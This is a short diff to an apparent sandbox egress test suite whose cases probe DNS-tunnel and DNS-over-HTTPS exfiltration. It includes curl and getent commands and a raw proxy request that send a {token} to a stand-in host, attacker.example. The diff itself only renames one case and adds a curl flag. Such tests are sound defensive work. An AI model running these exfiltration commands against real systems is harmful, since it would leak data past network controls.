@@ -68,7 +68,7 @@ def cases() -> list[Case]:
         case(elsewhere, "CONNECT to a DNS server", "stream", dial="{gw}:3128", connect="{nameserver}:53", dot="attacker.example"),
         case(elsewhere, "the engine's own resolver", "dns", name=TUNNEL, kind="A", server="127.0.0.11",
              unshown="the engine forwards from the session's own namespace, and the test hosts' resolver is out of reach there"),
-        case(elsewhere, "dig by a program", "tool", argv=["curl", "-s", "--max-time", "3", "http://{token}.attacker.example/"]),
+        case(elsewhere, "a name looked up by a program", "tool", argv=["curl", "-s", "--max-time", "3", "http://{token}.attacker.example/"]),
         case(elsewhere, "the system's resolver", "tool", argv=["getent", "hosts", "{token}.attacker.example"]),
         case(elsewhere, "IPv6 server", "dns", name=TUNNEL, kind="A", server="{nameserver6}",
              unshown={"gvisor": "gVisor has no IPv6 address here; the same is shown as frames"}),
@@ -123,7 +123,7 @@ def _encrypted() -> list[Case]:
         case("DoH", "without TLS", "stream", dial="{doh}:80", doh="get dns.google"),
         case("DoH", "without TLS by the proxy", "stream", dial="{gw}:3128",
              send="GET http://dns.google/resolve?name={token}.attacker.example HTTP/1.1\r\nHost: dns.google\r\n\r\n"),
-        case("DoH", "by curl", "tool", argv=["curl", "-sk", "--max-time", "4", "--doh-url", "https://{doh}/dns-query?{token}", "https://attacker.example/{token}"]),
+        case("DoH", "by curl", "tool", argv=["curl", "-sk", "--max-time", "4", "--doh-insecure", "--doh-url", "https://{doh}/dns-query?{token}", "https://attacker.example/{token}"]),
         case("DoH", "fronted by a listed name", "stream", dial="{gw}:3128", connect="cdn.example:443", tls="cdn.example", doh="get dns.google",
              limit="the name inside of TLS cannot be seen without opening it"),
     ]  # fmt: skip
